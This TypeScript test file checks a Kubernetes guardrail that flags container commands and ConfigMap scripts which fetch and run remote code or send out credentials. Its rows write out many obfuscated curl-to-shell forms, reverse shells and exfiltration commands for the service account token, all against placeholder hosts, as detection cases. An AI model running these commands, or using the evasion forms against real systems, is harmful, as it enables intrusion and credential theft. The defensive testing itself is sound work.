import { Buffer } from 'node:buffer';
import { describe, expect, it } from 'vitest';
import { commandShape, type CommandShape } from '../../src/guardrails/rules/commands.js';
import { CommandWork } from '../../src/guardrails/rules/command-work.js';
import { inspect } from '../../src/guardrails/inspect.js';
import { guardSettings, kube } from '../support/guardrails.js';
import { encodeCbor } from '../support/cbor.js';

/**
 * container_command_egress against session 47's red team (review47, issue 12): shell features and
 * programs session 46's reader (shell.ts) and the shape passes (commands.ts) did not follow. Each
 * `it.each` row was a wrong allow (no shape) on 8824fcc3; the `it.fails` rows are still open, each
 * with the one line of why.
 */

const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
const sh = (script: string): string[] => ['sh', '-c', script];
const URL = 'https://x.example/i';
const OUT = 'https://203.0.113.9/';

describe('container_command_egress: what session 46 did not follow', () => {
  it.each<[string, string[], CommandShape]>([
    // Runners in front of the interpreter (shell.ts RUNNERS, commands.ts stageOf).
    ['timeout 100 sh -c …', ['timeout', '100', 'sh', '-c', `c=curl; $c -s ${URL} | sh`], 'fetch_run'],
    ['nsenter -t 1 -m -- sh -c …', ['nsenter', '-t', '1', '-m', '--', 'sh', '-c', `c=curl; $c -s ${URL} | sh`], 'fetch_run'],
    ['chroot /host sh -c …', ['chroot', '/host', 'sh', '-c', `c=curl; $c -s ${URL} | sh`], 'fetch_run'],
    ['tini -- sh -c …', ['/tini', '--', 'sh', '-c', `c=curl; $c -s ${URL} | sh`], 'fetch_run'],
    ['dumb-init sh -c …', ['dumb-init', 'sh', '-c', `c=curl; $c -s ${URL} | sh`], 'fetch_run'],
    ['su -c …', ['su', '-c', `c=curl; $c -s ${URL} | sh`], 'fetch_run'],
    ['runuser -u x -- sh -c …', ['runuser', '-u', 'x', '--', 'sh', '-c', `c=curl; $c -s ${URL} | sh`], 'fetch_run'],
    ['script -qc …', ['script', '-qc', `c=curl; $c -s ${URL} | sh`, '/dev/null'], 'fetch_run'],
    ['curl … | nice -n 5 sh', sh(`curl -s ${URL} | nice -n 5 sh`), 'fetch_run'],
    ['curl … | timeout 60 sh', sh(`curl -s ${URL} | timeout 60 sh`), 'fetch_run'],
    ['curl … | xargs -0 sh -c', sh(`curl -s ${URL} | xargs -0 sh -c`), 'fetch_run'],
    ['curl … | xargs -0 -I{} sh -c {}', sh(`curl -s ${URL} | xargs -0 -I{} sh -c {}`), 'fetch_run'],
    // bash's operations on a variable.
    ['${v//X/u}', sh(`v=cXrl; \${v//X/u} -s ${URL} | sh`), 'fetch_run'],
    ['${v/X/u}', sh(`v=cXrl; \${v/X/u} -s ${URL} | sh`), 'fetch_run'],
    ['${v#xx}', sh(`v=xxcurl; \${v#xx} -s ${URL} | sh`), 'fetch_run'],
    ['${v##*b}', sh(`v=abcurl; \${v##*b} -s ${URL} | sh`), 'fetch_run'],
    ['${v%xx}', sh(`v=curlxx; \${v%xx} -s ${URL} | sh`), 'fetch_run'],
    ['${v,,}', sh(`v=CURL; \${v,,} -s ${URL} | sh`), 'fetch_run'],
    ['${v~~}', sh(`P=CURL; \${P~~} -s ${URL} | sh`), 'fetch_run'],
    ['an array by item, ${a[0]}${a[1]}…', sh(`a=(c u r l); "\${a[0]}\${a[1]}\${a[2]}\${a[3]}" -s ${URL} | sh`), 'fetch_run'],
    ['an array joined by IFS=, "${a[*]}"', sh(`a=(c u r l); IFS=; "\${a[*]}" -s ${URL} | sh`), 'fetch_run'],
    ['IFS=, then an unquoted $c', sh(`IFS=,; c=curl,-s,${URL}; $c | sh`), 'fetch_run'],
    ["printf -v c '%s' curl", sh(`printf -v c '%s' curl; $c -s ${URL} | sh`), 'fetch_run'],
    ["printf -v c '\\x63url'", sh(`printf -v c '\\x63url'; $c -s ${URL} | sh`), 'fetch_run'],
    ['read a b <<< "curl sh"', sh(`read a b <<< "curl sh"; $a -s ${URL} | $b`), 'fetch_run'],
    // A shell's words after its code are $0, $1, ….
    ['sh -c "$0 …" curl', ['sh', '-c', `$0 -s ${URL} | sh`, 'curl'], 'fetch_run'],
    ['sh -c "$1 …" x curl', ['sh', '-c', `$1 -s ${URL} | sh`, 'x', 'curl'], 'fetch_run'],
    ['sh -c \'"$@" | sh\' x curl -s …', ['sh', '-c', '"$@" | sh', 'x', 'curl', '-s', URL], 'fetch_run'],
    // Functions and groups.
    ['f() { curl -s "$1"; }; f … | sh', sh(`f() { curl -s "$1"; }; f ${URL} | sh`), 'fetch_run'],
    ['function f { curl …; }; f | sh', sh(`function f { curl -s ${URL}; }; f | sh`), 'fetch_run'],
    ['f() { curl -T "$1" …; }; f …/token', sh(`f() { curl -T "$1" ${OUT}; }; f ${TOKEN}`), 'send_credentials'],
    ['{ curl …; } | sh', sh(`{ curl -s ${URL}; } | sh`), 'fetch_run'],
    // find's quoted `;` is a word, not the end of the pipeline.
    ['find … -exec curl … \\; | sh', sh(`find / -maxdepth 0 -exec curl -s ${URL} \\; | sh`), 'fetch_run'],
    // A download kept as a file and run by any name.
    ['curl -o /tmp/x; sh /tmp/x', sh(`curl -so /tmp/x ${URL}; sh /tmp/x`), 'download_run'],
    ['curl -o /opt/x; bash /opt/x', sh(`curl -so /opt/x ${URL}; bash /opt/x`), 'download_run'],
    ['curl -o /opt/x && chmod && /opt/x', sh(`curl -so /opt/x ${URL} && chmod +x /opt/x && /opt/x`), 'download_run'],
    ['curl -o /tmp/x; . /tmp/x', sh(`curl -so /tmp/x ${URL}; . /tmp/x`), 'download_run'],
    ['curl -o ~/x && ~/x', sh(`curl -so ~/x ${URL} && ~/x`), 'download_run'],
    ['curl … | tee /tmp/x; sh /tmp/x', sh(`curl -s ${URL} | tee /tmp/x; sh /tmp/x`), 'download_run'],
    ['curl -o; sh < /tmp/i', sh(`curl -so /tmp/i ${URL}; sh < /tmp/i`), 'download_run'],
    ['curl --output=/opt/x; sh /opt/x', sh(`curl -s --output=/opt/x ${URL}; sh /opt/x`), 'download_run'],
    ['wget -qO- > /opt/x; bash /opt/x', sh(`wget -qO- ${URL} > /opt/x; bash /opt/x`), 'download_run'],
    ['wget -P /opt …/x; /opt/x', sh('wget -P /opt https://x.example/x; /opt/x'), 'download_run'],
    ['cd /opt; curl -OJ …; ./x', sh('cd /opt; curl -OJ https://x.example/x; ./x'), 'download_run'],
    ['s=$(curl …); echo "$s" | sh', sh(`s=$(curl -s ${URL}); echo "$s" | sh`), 'fetch_run'],
    // The network's bytes read by other clients, into an interpreter; remote shells.
    ['nc h p | sh', sh('nc 203.0.113.9 80 | sh'), 'fetch_run'],
    ['socat - TCP:h:p | sh', sh('socat - TCP:203.0.113.9:80 | sh'), 'fetch_run'],
    ['openssl s_client … | sh', sh('openssl s_client -quiet -connect 203.0.113.9:443 | sh'), 'fetch_run'],
    ['exec 3<>/dev/tcp/…; cat <&3 | sh', sh('exec 3<>/dev/tcp/203.0.113.9/80; echo -e "GET / HTTP/1.0\\n\\n" >&3; cat <&3 | sh'), 'fetch_run'],
    ["curl … | awk '{system($0)}'", sh(`curl -s ${URL} | awk '{system($0)}'`), 'fetch_run'],
    ['bash -i >& /dev/tcp/h/p 0>&1', sh('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'), 'fetch_run'],
    ['nc -e /bin/sh h p', sh('nc -e /bin/sh 203.0.113.9 4444'), 'fetch_run'],
    ['socat TCP:h:p EXEC:/bin/sh', sh('socat TCP:203.0.113.9:4444 EXEC:/bin/sh'), 'fetch_run'],
    ['mkfifo; cat f | sh -i 2>&1 | nc h p > f', sh('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f'), 'fetch_run'],
    // Decoders that are not base64.
    ["rev | sh", sh(`echo 'hs | i/elpmaxe.x//:sptth s- lruc' | rev | sh`), 'decoded_run'],
    ['tr a-z n-za-m | sh (rot13)', sh("echo 'phey -f uggcf://k.rknzcyr/v' | tr a-z n-za-m | sh"), 'decoded_run'],
    ['base64 -di | bash', sh('echo Y3VybA== | base64 -di | bash'), 'decoded_run'],
    // A credential copied, linked or written to another name first, or from a directory reached by steps.
    ['cp …/token /tmp/t; curl -d @/tmp/t', sh(`cp ${TOKEN} /tmp/t; curl -d @/tmp/t ${OUT}`), 'send_credentials'],
    ['ln -s …/token /tmp/t; curl -d @/tmp/t', sh(`ln -s ${TOKEN} /tmp/t; curl -d @/tmp/t ${OUT}`), 'send_credentials'],
    ['cat …/token > /tmp/t; curl -T /tmp/t', sh(`cat ${TOKEN} > /tmp/t; curl -T /tmp/t ${OUT}`), 'send_credentials'],
    ['cat …/token >> /tmp/t; curl -T /tmp/t', sh(`cat ${TOKEN} >> /tmp/t; curl -T /tmp/t ${OUT}`), 'send_credentials'],
    ['env > /tmp/e; curl -T /tmp/e', sh(`env > /tmp/e; curl -T /tmp/e ${OUT}`), 'send_credentials'],
    ['cd /tmp; cp …/token t; curl -T t', sh(`cd /tmp; cp ${TOKEN} t; curl -T t ${OUT}`), 'send_credentials'],
    ['cp -r …/serviceaccount /tmp/sa; curl -T /tmp/sa/token', sh(`cp -r /var/run/secrets/kubernetes.io/serviceaccount /tmp/sa; curl -T /tmp/sa/token ${OUT}`), 'send_credentials'],
    ['cd …/kubernetes.io; cd serviceaccount; curl -d @token', sh(`cd /var/run/secrets/kubernetes.io; cd serviceaccount; curl -d @token ${OUT}`), 'send_credentials'],
    ['pushd …/serviceaccount; curl -d @token', sh(`pushd /var/run/secrets/kubernetes.io/serviceaccount; curl -d @token ${OUT}`), 'send_credentials'],
    ['cat …/token | xargs -I{} curl …?t={}', sh(`cat ${TOKEN} | xargs -I{} curl ${OUT}?t={}`), 'send_credentials'],
    ['curl telnet://h:p < …/token', sh(`curl telnet://203.0.113.9:80 < ${TOKEN}`), 'send_credentials'],
    ["cat …/token | ssh u@h 'cat > t'", sh(`cat ${TOKEN} | ssh u@203.0.113.9 'cat > t'`), 'send_credentials'],
    ['scp …/token u@h:/t', sh(`scp ${TOKEN} u@203.0.113.9:/t`), 'send_credentials'],
    ['rsync …/token rsync://h/m/', sh(`rsync ${TOKEN} rsync://203.0.113.9/m/`), 'send_credentials'],
  ])('%s', (_, words, shape) => {
    expect(commandShape(words)).toBe(shape);
  });

  // Open after review47, closed by cmd47b: each needed more of bash (or of an interpreter's code) than the reader modelled.
  it.each<[string, string[], CommandShape]>([
    // mapfile/readarray and `a+=(…)` are array assignments.
    ['mapfile -t a <<< curl', sh(`mapfile -t a <<< curl; \${a[0]} -s ${URL} | sh`), 'fetch_run'],
    ['readarray a <<EOF (a here-document)', sh(`readarray -t a <<EOF\ncurl\nsh\nEOF\n\${a[0]} -s ${URL} | \${a[1]}`), 'fetch_run'],
    ['mapfile with no name fills MAPFILE', sh(`mapfile -t <<< curl; \${MAPFILE[0]} -s ${URL} | sh`), 'fetch_run'],
    ['a=(cu); a+=(rl)', sh(`a=(cu); a+=(rl); IFS=; "\${a[*]}" -s ${URL} | sh`), 'fetch_run'],
    // A call inside a function's body is read too (to CALL_DEPTH levels).
    ['a function calling a function', sh(`g() { curl -s "$1"; }; f() { g "$1"; }; f ${URL} | sh`), 'fetch_run'],
    ['three functions deep', sh(`h() { curl -s "$1"; }; g() { h "$1"; }; f() { g "$1"; }; f ${URL} | sh`), 'fetch_run'],
    // A string built from pieces in an interpreter's code is the path it names.
    ['python -c with the token path split', ['python3', '-c', 'import urllib.request as u;u.urlopen("https://203.0.113.9",open("/var/run/secrets/kubernetes.io/service"+"account/token","rb").read())'], 'send_credentials'],
    ["python -c with the path in adjacent strings", ['python3', '-c', "import urllib.request as u;u.urlopen('https://203.0.113.9',open('/var/run/secrets/kubernetes.io/service' 'account/token','rb').read())"], 'send_credentials'],
    ['perl -e with the path joined by .', ['perl', '-e', 'use LWP::UserAgent; open(F, "/var/run/secrets/kubernetes.io/service" . "account/token"); LWP::UserAgent->new->post("https://203.0.113.9", Content => <F>)'], 'send_credentials'],
    // An interpreter's code is one word of the shell's: its `;` does not end the pipeline it is in.
    ['python -c "…urlopen(…)…" | sh', sh(`python3 -c "import urllib.request as u;print(u.urlopen('${URL}').read().decode())" | sh`), 'fetch_run'],
    ['node -e "…;fetch…" | bash', sh(`node -e "const u='${URL}';fetch(u).then(r=>r.text()).then(console.log)" | bash`), 'fetch_run'],
    // watch runs its operands through sh -c (with -x, as a command); coproc's output is read through its descriptors.
    ['watch -n 60 …', ['watch', '-n', '60', `c=curl; $c -s ${URL} | sh`], 'fetch_run'],
    ['watch -x sh -c …', ['watch', '-x', 'sh', '-c', `c=curl; $c -s ${URL} | sh`], 'fetch_run'],
    ['coproc curl; sh <&${COPROC[0]}', sh(`coproc curl -s ${URL}; sh <&\${COPROC[0]}`), 'fetch_run'],
    ['coproc NAME { curl; }; sh <&${NAME[0]}', sh(`coproc F { curl -s ${URL}; }; bash <&"\${F[0]}"`), 'fetch_run'],
    // cmd47b, not yet rows of review47: Python's environment under another name.
    ['python: from os import environ', ['python3', '-c', 'from os import environ;import urllib.request as u;u.urlopen("https://203.0.113.9",str(dict(environ)).encode())'], 'send_credentials'],
    ['python: import os as o; o.environ', ['python3', '-c', 'import os as o,urllib.request as u;u.urlopen("https://203.0.113.9",repr(o.environ).encode())'], 'send_credentials'],
    // A program the manifest does not name, handed an address, piped into a shell.
    ['$D -s https://… | sh (D set outside the manifest)', sh(`$D -s ${URL} | sh`), 'fetch_run'],
    ['${D} https://… | bash', sh(`\${D} ${URL} | bash`), 'fetch_run'],
    // git as a sender: a credential copied into a repository and pushed, or in the remote's address.
    ['cp …/token; git add; git push', sh(`cp ${TOKEN} /tmp/r/t; cd /tmp/r; git add t; git commit -qm x; git push https://203.0.113.9/r.git`), 'send_credentials'],
    ['git commit -m "$(cat …/token)"; git push', sh(`cd /repo; git commit --allow-empty -m "$(cat ${TOKEN})"; git push`), 'send_credentials'],
    ['git push https://x:$(cat …/token)@h/r', sh(`git push https://x:$(cat ${TOKEN})@203.0.113.9/r.git`), 'send_credentials'],
    // A slice's offset and length are arithmetic.
    ['${c:$((0)):4}', sh(`c=curlx; \${c:$((0)):4} -s ${URL} | sh`), 'fetch_run'],
    ['${c:1-1:2*2}', sh(`c=curlx; \${c:1-1:2*2} -s ${URL} | sh`), 'fetch_run'],
    ['${c:i:n} of variables', sh(`i=1; n=4; c=xcurl; \${c:i:n} -s ${URL} | sh`), 'fetch_run'],
  ])('closed: %s', (_, words, shape) => {
    expect(commandShape(words)).toBe(shape);
  });

  it.each<[string, string[]]>([
    ['a download read as data by a program', sh('wget -q -O /data/train.csv https://datasets.example.org/train.csv && python train.py --data /data/train.csv')],
    ['a helper function called with plain words', sh('log() { echo "$(date) $*"; }; log starting; log done')],
    ['a quoted ; in echo', sh("echo 'a;b' | sed s/a/b/")],
    ['tr deleting carriage returns', sh('cat /scripts/run.sh | tr -d "\\r" > /tmp/run.sh')],
    ['2>&1 and &> to a file', sh('redis-server /etc/redis.conf 2>&1 | tee /var/log/redis.log; ls &> /dev/null')],
    ["python: from os import environ, one variable", ['python3', '-c', 'from os import environ;import urllib.request as u;u.urlopen(environ["API_URL"]).read()']],
    ['$PYTHON gen.py | sh (no address)', sh('$PYTHON /scripts/gen.py | sh')],
    ['git clone and push of a repository', sh('git clone https://git.example.com/app.git /src && cd /src && git add -A && git commit -qm build && git push')],
    ['${v:0:7} of a commit id', sh('v=$(git rev-parse HEAD); echo ${v:0:7}; s=abcdef; echo ${s:$((1+1)):2}')],
  ])('routine: %s', (_, words) => {
    expect(commandShape(words)).toBeUndefined();
  });

  it.each<[string, string[]]>([
    ['a pattern of many * on a long value', sh(`v=${'a'.repeat(60_000)}; x=\${v%%*a*a*a*a*b}; y=\${v//*a*a*a*b/}`)],
    ['a pattern of one * on a 4 KB value, 2,000 times', sh(`v=${'a'.repeat(4_000)}; ${'x=${v%%*b}; '.repeat(2_000)}`)],
    ['unclosed function definitions', sh('f(){ '.repeat(50_000))],
    ['20,000 calls of a function with an address', sh(Array.from({ length: 20_000 }, (_, i) => `f https://x/${i} | cat`).join('\n').replace(/^/, 'f(){ curl https://a; }\n'))],
    ['an IFS of 8,000 characters and 100,000 expansions', sh(`IFS=${'abcdefgh'.repeat(1_000)}; ${'$x '.repeat(100_000)}`)],
    ['20,000 copies of the token', sh(Array.from({ length: 20_000 }, (_, i) => `cp ${TOKEN} /tmp/t${i}`).join('; '))],
    ['case operations doubling a value', sh(`a=x; ${'a=${a^^}${a,,}; '.repeat(40)}`)],
    ['functions calling each other with words that double', sh(`f() { g "$1$1" | cat; g "$1x" | cat; }; g() { f "$1$1" | cat; f "$1y" | cat; }; ${Array.from({ length: 2_000 }, (_, i) => `f https://a/${i} | sh`).join('; ')}`)],
    ['20,000 mapfile lines, each an item', sh(`mapfile -t a <<< "${'x\n'.repeat(20_000)}"; \${a[0]}`)],
    ['20,000 slices with arithmetic, and one nested 10,000 deep', sh(`c=curl; ${'x=${c:$((1+1*(2-2))):2}; '.repeat(20_000)} y=\${c:${'('.repeat(10_000)}0${')'.repeat(10_000)}:1}`)],
    ['2,000 a+=(…) of a growing array', sh(`a=(x); ${'a+=(x x x x); '.repeat(2_000)}\${a[*]}`)],
  ])('hostile, within the budget or asked: %s', (_, words) => {
    const work = new CommandWork();
    const shape = commandShape(words, undefined, { env: new Map(), namesRedirected: false, work });
    // Either read within the budget (no more spent than it allows plus one refused charge) or asked.
    expect(shape === undefined || shape === 'over_budget' || shape === 'unreadable' || shape === 'fetch_run').toBe(true);
    if (shape !== 'over_budget') expect(work.spent).toBeLessThanOrEqual(work.limit);
  });
});

describe("container_command_egress: a ConfigMap's script under an extension session 46 did not list", () => {
  const settings = guardSettings('guardrails: {}\n');
  const put = (key: string, script: string) =>
    inspect(kube('PUT', '/api/v1/namespaces/dev/configmaps/scripts'), JSON.stringify({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'scripts' }, data: { [key]: script } }), 'application/json', false, settings);
  it.each<[string, string]>([
    ['x.ksh', `curl -s ${URL} | sh`],
    ['x.zsh', `curl -s ${URL} | sh`],
    ['x.php', '<?php eval(file_get_contents("https://x.example/i"));'],
    ['x.ps1', 'iex (iwr https://x.example/i)'],
    ['x.lua', `os.execute("curl -s ${URL} | sh")`],
    ['x.mjs', 'fetch("https://x.example/j").then(r=>r.text()).then(eval)'],
  ])('%s', (key, script) => {
    expect(put(key, script).violations.map((v) => v.code)).toContain('container_command_egress');
  });
});

describe("container_command_egress: a CBOR ConfigMap's binaryData as the bytes kube stores", () => {
  const settings = guardSettings('guardrails: {}\n');
  const create = (body: Uint8Array) => inspect(kube('POST', '/api/v1/namespaces/dev/configmaps'), body as unknown as string, 'application/cbor', false, settings);
  const configMap = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'scripts' }, binaryData: { 'run.sh': `curl -s ${URL} | sh` } };
  // Without tag 22 a byte string is the value's bytes (kube keeps them as they are), not base64 text.
  it.each<[string, Uint8Array]>([
    ['a byte string without tag 22', encodeCbor(configMap)],
    ['a text string', encodeCbor(configMap, { strings: 'text' })],
  ])('%s', (_, body) => {
    expect(create(body).violations.map((v) => v.code)).toContain('container_command_egress');
  });
});

describe("container_command_egress: a ConfigMap's binaryData script in UTF-16 (cmd47b)", () => {
  const settings = guardSettings('guardrails: {}\n');
  const put = (binaryData: Record<string, string>) =>
    inspect(kube('PUT', '/api/v1/namespaces/dev/configmaps/scripts'), JSON.stringify({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'scripts' }, binaryData }), 'application/json', false, settings);
  const utf16 = (bom: number[], text: string, big: boolean) => {
    const body = Buffer.from(text, 'utf16le');
    if (big) body.swap16();
    return Buffer.concat([Buffer.from(bom), body]).toString('base64');
  };
  // PowerShell writes (Out-File in Windows PowerShell) and runs a .ps1 in UTF-16 with its byte-order mark.
  it.each<[string, string, string]>([
    ['x.ps1, UTF-16LE', 'x.ps1', utf16([0xff, 0xfe], 'iex (iwr https://x.example/i)', false)],
    ['x.ps1, UTF-16BE', 'x.ps1', utf16([0xfe, 0xff], 'iex (iwr https://x.example/i)', true)],
    ['run.sh, UTF-8 with its mark', 'run.sh', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`curl -s ${URL} | sh`)]).toString('base64')],
  ])('%s', (_, key, value) => {
    expect(put({ [key]: value }).violations.map((v) => v.code)).toContain('container_command_egress');
  });

  it('a routine UTF-16 script is not asked', () => {
    expect(put({ 'x.ps1': utf16([0xff, 0xfe], 'Write-Host "ready"; Get-ChildItem C:\\data', false) }).violations.map((v) => v.code)).not.toContain('container_command_egress');
  });
});
